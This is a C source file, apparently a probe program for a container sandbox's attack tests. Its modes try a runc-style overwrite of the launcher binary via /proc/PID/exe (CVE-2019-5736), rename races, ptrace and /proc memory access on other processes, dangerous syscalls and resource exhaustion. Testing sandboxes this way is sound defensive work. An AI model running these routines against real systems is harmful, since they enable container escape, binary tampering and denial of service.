// What a hostile program tries, run by the attack tests inside containers and outside: probe WHAT
// ARGS... It is linked statically, so that it runs in any image.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif

static long long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

// Every open descriptor and what it is.
static int descriptors(void) {
  char path[64], target[256];
  for (int fd = 0; fd < 65536; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    printf("%d %s\n", fd, target);
  }
  return 0;
}

// The seals of the program that a process runs.
static int seals(const char *pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_RDONLY);
  printf("%d\n", fd < 0 ? -1 : fcntl(fd, F_GET_SEALS));
  return 0;
}

static volatile sig_atomic_t ended;

static void end(int signal) {
  (void)signal;
  ended = 1;
}

// Looks for processes that run the launcher and writes to it (CVE-2019-5736), until it is asked to
// end.
static int overwrite(void) {
  int seen = 0, written = 0;
  static int held[256];
  signal(SIGTERM, end);
  puts("begun");
  fflush(stdout);
  while (!ended) {
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc != NULL && (e = readdir(proc)) != NULL;) {
      if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
      char path[300], target[256];
      snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
      ssize_t n = readlink(path, target, sizeof target - 1);
      if (n < 0) continue;
      target[n] = 0;
      if (strstr(target, "memfd") == NULL && strstr(target, "launcher") == NULL) continue;
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (seen < 256) held[seen++] = fd;
    }
    if (proc != NULL) closedir(proc);
    // Those that have ended no longer keep the file busy.
    for (int i = 0; i < seen; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd < 0) continue;
      if (pwrite(fd, "evil", 4, 0) > 0 || ftruncate(fd, 0) == 0) written++;
      close(fd);
    }
  }
  printf("seen %d written %d\n", seen, written);
  return 0;
}

// Exchanges two names again and again.
static int exchange(const char *a, const char *b, int ms) {
  for (long long until = now_ms() + ms; now_ms() < until;)
    for (int i = 0; i < 100; i++)
      syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
  return 0;
}

// A key of the session keyring that this process has from whoever made it.
static int find_key(const char *name) {
  long key = syscall(SYS_keyctl, 10 /* SEARCH */, -3 /* session */, "user", name, 0);
  printf("%s\n", key > 0 ? "found" : strerror(errno));
  return 0;
}

static int abstract(const char *name, bool serve) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
  if (serve) {
    if (bind(fd, (void *)&address, size) < 0 || listen(fd, 1) < 0) return 1;
    while (true) close(accept(fd, NULL, NULL));
  }
  printf("%s\n", connect(fd, (void *)&address, size) == 0 ? "connected" : strerror(errno));
  return 0;
}

static const struct {
  const char *name;
  long number;
} calls[] = {
    {"acct", SYS_acct}, {"add_key", SYS_add_key}, {"adjtimex", SYS_adjtimex}, {"bpf", SYS_bpf},
    {"clock_adjtime", SYS_clock_adjtime}, {"clock_settime", SYS_clock_settime},
    {"delete_module", SYS_delete_module}, {"fanotify_init", SYS_fanotify_init},
    {"finit_module", SYS_finit_module}, {"fsconfig", 431}, {"fsmount", 432}, {"fsopen", 430},
    {"fspick", 433}, {"get_mempolicy", SYS_get_mempolicy}, {"init_module", SYS_init_module},
    {"io_uring_setup", 425}, {"kcmp", SYS_kcmp}, {"kexec_file_load", SYS_kexec_file_load},
    {"kexec_load", SYS_kexec_load}, {"keyctl", SYS_keyctl}, {"lookup_dcookie", SYS_lookup_dcookie},
    {"mbind", SYS_mbind}, {"migrate_pages", SYS_migrate_pages}, {"mount", SYS_mount},
    {"mount_setattr", 442}, {"move_mount", 429}, {"move_pages", SYS_move_pages},
    {"name_to_handle_at", SYS_name_to_handle_at}, {"nfsservctl", SYS_nfsservctl},
    {"open_by_handle_at", SYS_open_by_handle_at}, {"open_tree", 428},
    {"perf_event_open", SYS_perf_event_open}, {"personality", SYS_personality},
    {"pidfd_getfd", 438}, {"pivot_root", SYS_pivot_root}, {"process_madvise", 440},
    {"process_vm_readv", SYS_process_vm_readv}, {"process_vm_writev", SYS_process_vm_writev},
    {"pkey_alloc", SYS_pkey_alloc}, {"pkey_free", SYS_pkey_free},
    {"pkey_mprotect", SYS_pkey_mprotect}, {"ptrace", SYS_ptrace}, {"quotactl", SYS_quotactl}, {"reboot", SYS_reboot},
    {"request_key", SYS_request_key}, {"set_mempolicy", SYS_set_mempolicy}, {"setns", SYS_setns},
    {"settimeofday", SYS_settimeofday}, {"swapoff", SYS_swapoff}, {"swapon", SYS_swapon},
    {"syslog", SYS_syslog}, {"umount2", SYS_umount2}, {"unshare", SYS_unshare},
    {"userfaultfd", SYS_userfaultfd}, {"vhangup", SYS_vhangup},
#ifdef SYS_create_module
    {"_sysctl", SYS__sysctl}, {"create_module", SYS_create_module},
    {"get_kernel_syms", SYS_get_kernel_syms}, {"ioperm", SYS_ioperm}, {"iopl", SYS_iopl},
    {"modify_ldt", SYS_modify_ldt}, {"query_module", SYS_query_module}, {"sysfs", SYS_sysfs},
    {"uselib", SYS_uselib}, {"ustat", SYS_ustat},
#endif
};

// What each dangerous call says; its arguments mean nothing, so that it does nothing.
static void try_call(const char *name, long a, long b, long number) {
  pid_t pid = fork();
  if (pid == 0) {
    alarm(5);
    long result = syscall(number, a, b, -1L, -1L, -1L, -1L);
    printf("%s %s\n", name, result >= 0 ? "ok" : strerror(errno));
    fflush(stdout);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  if (!WIFEXITED(status)) printf("%s killed by %d\n", name, WTERMSIG(status));
}

static int try_calls(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
    try_call(calls[i].name, -1, -1, calls[i].number);
  try_call("unshare user", CLONE_NEWUSER, 0, SYS_unshare);
  try_call("unshare mount", CLONE_NEWNS, 0, SYS_unshare);
  try_call("personality linux", 0, 0, SYS_personality);
  try_call("personality bsd", 6, 0, SYS_personality);
  try_call("socket netlink", AF_NETLINK, SOCK_RAW, SYS_socket);
  try_call("socket vsock", 40, SOCK_STREAM, SYS_socket);
  try_call("socket packet", AF_PACKET, SOCK_RAW, SYS_socket);
  try_call("socket alg", 38, SOCK_SEQPACKET, SYS_socket);
  try_call("ioctl tiocsti", 0, TIOCSTI, SYS_ioctl);
  return 0;
}

// Every call by its number, with arguments that mean nothing; without those that end or stop this
// process, or make another.
static int every_call(void) {
  static const long skipped[] = {SYS_exit, SYS_exit_group, SYS_clone, SYS_rt_sigreturn,
                                 SYS_rt_sigsuspend, SYS_sync,
#ifdef SYS_fork
                                 SYS_fork, SYS_vfork, SYS_pause,
#endif
  };
  setvbuf(stdout, NULL, _IOLBF, 0);
  for (long number = 0; number < 470; number++) {
    char name[32];
    bool skip = false;
    for (size_t i = 0; i < sizeof skipped / sizeof *skipped; i++) skip |= skipped[i] == number;
    snprintf(name, sizeof name, "%ld", number);
    for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
      if (calls[i].number == number) snprintf(name, sizeof name, "%s", calls[i].name);
    if (!skip) try_call(name, -1, -1, number);
  }
  return 0;
}

// Takes as many of something as there are, and says how many that was and why there are no more.
static int exhaust(const char *what, int most) {
  int count = 0, result = 0;
  char name[64];
  for (; count < most; count++) {
    snprintf(name, sizeof name, "/exhaust-%d", count);
    if (strcmp(what, "mqueue") == 0) {
      result = (int)syscall(SYS_mq_open, name + 1, O_CREAT | O_RDWR, 0600, NULL);
      if (result >= 0) close(result);
    } else if (strcmp(what, "fds") == 0) {
      result = dup(0);
    } else if (strcmp(what, "key") == 0) {
      result = (int)syscall(SYS_add_key, "user", name, "x", 1, -3);
    } else if (strcmp(what, "userns") == 0) {
      result = (int)syscall(SYS_unshare, CLONE_NEWUSER);
    } else if (strcmp(what, "clone-userns") == 0) {
      result = (int)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
      if (result == 0) _exit(0);
    } else if (strcmp(what, "clone3-userns") == 0) {
      unsigned long long args[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
      result = (int)syscall(435, args, sizeof args);
      if (result == 0) _exit(0);
    } else if (strcmp(what, "inotify") == 0) {
      result = (int)syscall(SYS_inotify_init1, 0);
    } else {
      return 2;
    }
    if (result < 0) break;
  }
  printf("%d %s\n", count, result < 0 ? strerror(errno) : "more");
  return 0;
}

// Tries to attach to each process that is there, to read its memory and its descriptors; says of
// which it could.
static int spy(void) {
  DIR *proc = opendir("/proc");
  for (struct dirent *e; proc != NULL && (e = readdir(proc)) != NULL;) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == getpid()) continue;
    char path[300], line[256] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    FILE *comm = fopen(path, "r");
    if (comm != NULL && fgets(line, sizeof line, comm) != NULL) line[strcspn(line, "\n")] = 0;
    if (comm != NULL) fclose(comm);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int mem = open(path, O_RDWR);
    snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
    bool fds = readlink(path, line + 128, 64) >= 0;
    snprintf(path, sizeof path, "/proc/%d/root/", pid);
    int root = open(path, O_PATH);
    bool seized = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
    if (seized) ptrace(PTRACE_DETACH, pid, 0, 0);
    printf("%d %s%s%s%s%s\n", pid, line, mem >= 0 ? " mem" : "", fds ? " fd" : "",
           root >= 0 ? " root" : "", seized ? " ptrace" : "");
    if (mem >= 0) close(mem);
    if (root >= 0) close(root);
  }
  if (proc != NULL) closedir(proc);
  return 0;
}

// Opens what a container must not, and says what came of it.
static int open_all(char **paths) {
  for (; *paths != NULL; paths++) {
    int fd = open(*paths, O_RDONLY | O_NONBLOCK), out = open(*paths, O_WRONLY | O_NONBLOCK);
    char byte;
    const char *readable = fd < 0 ? strerror(errno) : read(fd, &byte, 1) == 1 ? "read" : "empty";
    printf("%s: %s, %s\n", *paths, readable, out < 0 ? "not written" : "written");
    if (fd >= 0) close(fd);
    if (out >= 0) close(out);
  }
  return 0;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "";
  if (strcmp(what, "fds") == 0) return descriptors();
  if (strcmp(what, "seals") == 0 && argc > 2) return seals(argv[2]);
  if (strcmp(what, "overwrite") == 0) return overwrite();
  if (strcmp(what, "exchange") == 0 && argc > 4)
    return exchange(argv[2], argv[3], atoi(argv[4]));
  if (strcmp(what, "key") == 0 && argc > 2) return find_key(argv[2]);
  if (strcmp(what, "abstract") == 0 && argc > 2) return abstract(argv[2], false);
  if (strcmp(what, "serve") == 0 && argc > 2) return abstract(argv[2], true);
  if (strcmp(what, "calls") == 0) return try_calls();
  if (strcmp(what, "every-call") == 0) return every_call();
  if (strcmp(what, "exhaust") == 0 && argc > 3) return exhaust(argv[2], atoi(argv[3]));
  if (strcmp(what, "spy") == 0) return spy();
  if (strcmp(what, "open") == 0) return open_all(argv + 2);
  return 2;
}
